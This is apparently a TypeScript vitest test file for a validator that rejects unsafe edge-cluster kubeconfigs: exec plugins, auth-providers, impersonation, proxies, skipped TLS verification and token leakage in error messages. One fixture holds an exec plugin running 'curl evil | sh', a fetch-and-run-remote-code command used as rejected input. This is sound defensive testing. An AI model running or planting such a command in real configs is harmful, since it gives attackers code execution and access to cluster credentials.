/**
 * Edge kubeconfigs: one cluster verified by its inline CA, one bearer token, one context; every
 * way a kubeconfig can run code, widen its rights or leak its token refused, by field, without
 * ever quoting the file.
 */
import { describe, expect, it } from "vitest";
import { edgeKubeconfigProblems, kubeconfigProblems } from "../../../config/kubeconfig";
import { formatProblem } from "../../../model/problems";
import { edgeKubeconfig } from "../../support/kubeconfig";

const TOKEN = "eyJhbGciOiJSUzI1NiJ9.secret-token-value-1234";
const problems = (text: string) => kubeconfigProblems("site-a", text).map(formatProblem);
const KEY = "stack config: tenancy:edgeKubeconfig-site-a";

describe("edge kubeconfigs", () => {
  it("accept a ServiceAccount token kubeconfig (YAML or JSON)", () => {
    expect(problems(edgeKubeconfig(TOKEN))).toEqual([]);
    const json = JSON.stringify(JSON.parse(JSON.stringify(require("yaml").parse(edgeKubeconfig(TOKEN)))));
    expect(problems(json)).toEqual([]);
  });

  it.each([
    ["an exec credential plugin", (d: any) => (d.users[0].user = { exec: { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] } }), [`${KEY}.users[0].user.exec: is refused: an exec credential plugin runs a program wherever the update runs`, `${KEY}.users[0].user.token: is required`]],
    ["an auth-provider", (d: any) => (d.users[0].user["auth-provider"] = { name: "oidc" }), [`${KEY}.users[0].user.auth-provider: is refused: an auth-provider plugin runs code`]],
    ["a client certificate", (d: any) => (d.users[0].user["client-certificate-data"] = "x"), [`${KEY}.users[0].user.client-certificate-data: is refused: use a ServiceAccount token`]],
    ["impersonation", (d: any) => (d.users[0].user.as = "system:admin"), [`${KEY}.users[0].user.as: is refused: impersonation widens the credential`]],
    ["a token file", (d: any) => (d.users[0].user = { tokenFile: "/var/run/token" }), [`${KEY}.users[0].user.tokenFile: is refused: a token file is read from the machine`, `${KEY}.users[0].user.token: is required`]],
    ["a proxy", (d: any) => (d.clusters[0].cluster["proxy-url"] = "http://proxy.example:3128"), [`${KEY}.clusters[0].cluster.proxy-url: is refused: a proxy sees the token and every request`]],
    ["insecure-skip-tls-verify", (d: any) => (d.clusters[0].cluster["insecure-skip-tls-verify"] = true), [`${KEY}.clusters[0].cluster.insecure-skip-tls-verify: is refused: without verifying the server`]],
    ["no CA", (d: any) => delete d.clusters[0].cluster["certificate-authority-data"], [`${KEY}.clusters[0].cluster.certificate-authority-data: is required`]],
    ["a CA file", (d: any) => { d.clusters[0].cluster["certificate-authority"] = "/etc/ca.crt"; delete d.clusters[0].cluster["certificate-authority-data"]; }, [`${KEY}.clusters[0].cluster.certificate-authority: is refused: a file path`, `${KEY}.clusters[0].cluster.certificate-authority-data: is required`]],
    ["a CA that is not a certificate", (d: any) => (d.clusters[0].cluster["certificate-authority-data"] = Buffer.from("hello").toString("base64")), [`${KEY}.clusters[0].cluster.certificate-authority-data: must be a base64-encoded PEM certificate`]],
    ["plain http", (d: any) => (d.clusters[0].cluster.server = "http://edge.example.net:8080"), [`${KEY}.clusters[0].cluster.server: must be an https:// URL`]],
    ["two contexts", (d: any) => d.contexts.push({ name: "other", context: { cluster: "edge", user: "tenancy-deployer" } }), [`${KEY}.contexts: must hold exactly one entry (got 2)`]],
    ["two users", (d: any) => d.users.push({ name: "admin", user: { token: "x" } }), [`${KEY}.users: must hold exactly one entry (got 2)`]],
    ["two clusters", (d: any) => d.clusters.push({ name: "prod", cluster: { server: "https://prod:6443" } }), [`${KEY}.clusters: must hold exactly one entry (got 2)`]],
    ["no token", (d: any) => (d.users[0].user = {}), [`${KEY}.users[0].user.token: is required`]],
    ["a context naming another user", (d: any) => (d.contexts[0].context.user = "admin"), [`${KEY}.contexts[0].context.user: must name the kubeconfig's user`]],
    ["a current context that is not its context", (d: any) => (d["current-context"] = "prod"), [`${KEY}.current-context: must name the kubeconfig's context`]],
  ])("refuses %s, naming the field", (_what, edit, expected) => {
    const found = problems(edgeKubeconfig(TOKEN, edit));
    expect(found.length, found.join("\n")).toBe(expected.length);
    expected.forEach((e, i) => expect(found[i]).toContain(e));
    // Never the secret.
    expect(found.join("\n")).not.toContain(TOKEN);
  });

  it("refuses what is not a kubeconfig without quoting it", () => {
    const text = `token: ${TOKEN}\n\tbroken: [`;
    expect(problems(text)).toEqual([`${KEY}: is not a kubeconfig (YAML or JSON mapping)`]);
  });

  it("checks every edge cluster of the stack, by its key", () => {
    const elsewhere = (d: any) => (d.clusters[0].cluster.server = "https://edge-b.example.net:6443");
    const get = (key: string) => ({ "edgeKubeconfig-a": edgeKubeconfig(TOKEN), "edgeKubeconfig-b": edgeKubeconfig(TOKEN, (d) => { elsewhere(d); d.users[0].user = { exec: {} }; }) })[key];
    expect(edgeKubeconfigProblems(get, ["a", "b"]).map((p) => p.path)).toEqual(["tenancy:edgeKubeconfig-b.users[0].user.exec", "tenancy:edgeKubeconfig-b.users[0].user.token"]);
  });

  it("refuses two names for one API server (an edge cluster serves one tenant), however the URL is spelled, without quoting it", () => {
    const at = (server: string) => edgeKubeconfig(TOKEN, (d) => (d.clusters[0].cluster.server = server));
    const values: Record<string, string> = {
      "edgeKubeconfig-dc1": at("https://edge.example.net:6443"),
      "edgeKubeconfig-dc-1": at("https://EDGE.example.net:6443/"),
      "edgeKubeconfig-dc2": at("https://edge.example.net"),
      "edgeKubeconfig-dc2-again": at("https://edge.example.net:443"),
      "edgeKubeconfig-other": at("https://other.example.net:6443"),
    };
    const found = edgeKubeconfigProblems((k) => values[k], ["dc1", "dc-1", "dc2", "dc2-again", "other"]).map(formatProblem);
    expect(found).toEqual([
      "stack config: tenancy:edgeKubeconfig-dc-1.clusters[0].cluster.server: is the API server tenancy:edgeKubeconfig-dc1 points at: one edge cluster, one name (an edge cluster serves one tenant)",
      "stack config: tenancy:edgeKubeconfig-dc2-again.clusters[0].cluster.server: is the API server tenancy:edgeKubeconfig-dc2 points at: one edge cluster, one name (an edge cluster serves one tenant)",
    ]);
    expect(found.join("\n")).not.toContain("example.net");
  });
});
